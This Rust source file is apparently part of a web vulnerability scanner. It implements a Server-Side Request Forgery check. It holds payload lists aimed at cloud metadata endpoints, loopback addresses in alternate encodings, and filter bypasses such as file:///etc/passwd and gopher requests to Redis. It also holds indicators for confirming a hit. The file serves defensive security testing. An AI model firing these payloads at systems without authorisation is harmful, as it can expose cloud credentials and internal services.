use async_trait::async_trait;

use crate::crawler::CrawledPage;
use crate::finding::{Confidence, Evidence, Finding};
use crate::http::HttpClient;
use crate::modules::{query_pairs, with_query_param, ScanModule};
use crate::scoring::cvss::Severity;
use crate::store::ScanMode;

const URL_PARAMS: &[&str] = &[
    "url", "uri", "path", "src", "href", "link", "redirect", "fetch", "proxy", "load", "page",
    "file", "callback", "feed", "host", "site",
];

/// Cloud metadata endpoints, tried first: a hit here is the strongest
/// possible SSRF signal.
const METADATA_PAYLOADS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/v1/",
    "http://192.0.0.192/latest/meta-data/",
    "http://100.100.100.200/latest/meta-data/",
];

/// Loopback in every notation a lax URL parser might accept.
const PRIVATE_IP_PAYLOADS: &[&str] = &[
    "http://127.0.0.1",
    "http://localhost",
    "http://[::1]",
    "http://0177.0.0.1",
    "http://2130706433",
    "http://0x7f000001",
    "http://127.1",
    "http://[::ffff:127.0.0.1]",
];

/// Scheme and parsing tricks for targets that blocklist the obvious forms.
const FILTER_BYPASS_PAYLOADS: &[&str] = &[
    "http://evil@127.0.0.1",
    "http://%6c%6f%63%61%6c%68%6f%73%74",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
];

/// Markers specific enough to confirm internal content was fetched.
const CONFIRMED_INDICATORS: &[&str] =
    &["AccessKeyId", "ami-id", "computeMetadata", "redis_version"];

/// Weaker markers: internal reachability, but possibly a false echo.
const TENTATIVE_INDICATORS: &[&str] = &[
    "root:",
    "daemon:",
    "169.254.169.254",
    "instance-id",
    "Connection refused",
    "No route to host",
    "ECONNREFUSED",
];

/// Server-Side Request Forgery probing on URL-shaped parameters.
pub struct Ssrf;

#[async_trait]
impl ScanModule for Ssrf {
    fn name(&self) -> &'static str {
        "ssrf"
    }

    fn description(&self) -> &'static str {
        "Tests for Server-Side Request Forgery"
    }

    fn scan_modes(&self) -> &'static [ScanMode] {
        &[ScanMode::Full]
    }

    fn is_active(&self) -> bool {
        true
    }

    async fn active(&self, page: &CrawledPage, http: &HttpClient) -> anyhow::Result<Vec<Finding>> {
        for (param, _) in query_pairs(&page.url) {
            if !URL_PARAMS.contains(&param.to_ascii_lowercase().as_str()) {
                continue;
            }

            let groups = [
                METADATA_PAYLOADS,
                PRIVATE_IP_PAYLOADS,
                FILTER_BYPASS_PAYLOADS,
            ];
            for group in groups {
                for payload in group {
                    let test_url = match with_query_param(&page.url, &param, payload) {
                        Some(u) => u,
                        None => continue,
                    };
                    let resp = match http.get(&test_url).await {
                        Ok(r) => r,
                        Err(_) => continue,
                    };

                    let confirmed = CONFIRMED_INDICATORS
                        .iter()
                        .find(|ind| resp.body.contains(**ind));
                    let tentative = TENTATIVE_INDICATORS
                        .iter()
                        .find(|ind| resp.body.contains(**ind));

                    let (indicator, confidence, score, vector) = match (confirmed, tentative) {
                        (Some(ind), _) => (
                            *ind,
                            Confidence::Confirmed,
                            9.1,
                            "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N",
                        ),
                        (None, Some(ind)) => (
                            *ind,
                            Confidence::Tentative,
                            7.5,
                            "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
                        ),
                        (None, None) => continue,
                    };

                    return Ok(vec![Finding {
                        module_name: self.name().to_string(),
                        vuln_type: "Server-Side Request Forgery (SSRF)".to_string(),
                        severity: Severity::from_score(score),
                        cvss_score: score,
                        cvss_vector: vector.to_string(),
                        owasp_category: "A10".to_string(),
                        cwe_id: "CWE-918".to_string(),
                        affected_url: page.url.clone(),
                        affected_parameter: Some(param.clone()),
                        description: format!(
                            "Parameter '{param}' fetched attacker-chosen URL '{payload}'; the \
                             response contains the internal-content indicator '{indicator}'."
                        ),
                        remediation: "Validate and sanitize URL parameters. Use allowlists for \
                                      permitted domains. Block internal and link-local IP ranges, \
                                      including alternative encodings."
                            .to_string(),
                        confidence,
                        evidence: vec![
                            Evidence::payload("SSRF Payload", *payload),
                            Evidence::request("Test URL", test_url),
                            Evidence::response("Response Indicator", indicator),
                        ],
                    }]);
                }
            }
        }

        Ok(Vec::new())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indicator_specificity_split() {
        assert!(CONFIRMED_INDICATORS.contains(&"ami-id"));
        assert!(CONFIRMED_INDICATORS.contains(&"computeMetadata"));
        assert!(TENTATIVE_INDICATORS.contains(&"root:"));
        assert!(!CONFIRMED_INDICATORS.contains(&"root:"));
    }

    #[test]
    fn metadata_group_covers_major_clouds() {
        let joined = METADATA_PAYLOADS.join(" ");
        assert!(joined.contains("169.254.169.254"));
        assert!(joined.contains("metadata.google.internal"));
    }
}
